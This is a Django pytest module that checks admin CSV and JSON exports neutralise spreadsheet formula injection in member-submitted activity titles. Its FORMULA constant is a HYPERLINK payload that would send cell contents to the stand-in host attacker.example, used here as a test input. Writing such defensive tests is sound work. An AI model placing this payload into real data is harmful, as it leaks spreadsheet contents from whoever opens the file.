"""Text a member wrote never runs as a formula in an admin's spreadsheet."""

import csv
import io
import json

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin, ImportMixin

from activities.models import Activity
from connectapp.lib.exports import SafeCSV, SafeJSON, escape_formula
from tests.activities.test_suggestions import SUGGEST_URL, suggestion_data

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")'


def test_every_admin_export_and_import_uses_the_safe_formats(settings):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
    checked = 0
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ExportMixin):
            for fmt in model_admin.get_export_formats():
                assert issubclass(fmt, SafeCSV | SafeJSON), (model_admin, fmt)
            checked += 1
        if isinstance(model_admin, ImportMixin):
            for fmt in model_admin.get_import_formats():
                assert issubclass(fmt, SafeCSV | SafeJSON), (model_admin, fmt)
    assert checked >= 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_escaped(start):
    assert escape_formula(f"{start}1+1") == f"'{start}1+1"


def test_plain_values_stay_as_they_are():
    for value in ("Walk", "", None, 3, ["a"], "a=b"):
        assert escape_formula(value) == value


@pytest.mark.django_db
def test_a_members_suggested_title_is_exported_as_text(member_client, admin_client):
    response = member_client.post(SUGGEST_URL, suggestion_data(title=FORMULA))
    assert response.status_code == 302
    assert Activity.objects.filter(title=FORMULA).exists()

    response = admin_client.post(
        reverse("admin:activities_activity_export"), {"format": "0", "resource": "0"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


@pytest.mark.django_db
def test_json_export_keeps_values_exact(member_client, admin_client):
    member_client.post(SUGGEST_URL, suggestion_data(title=FORMULA))
    response = admin_client.post(
        reverse("admin:activities_activity_export"), {"format": "1", "resource": "0"}
    )
    assert response.status_code == 200
    assert FORMULA in [row["title_en"] for row in json.loads(response.content)]
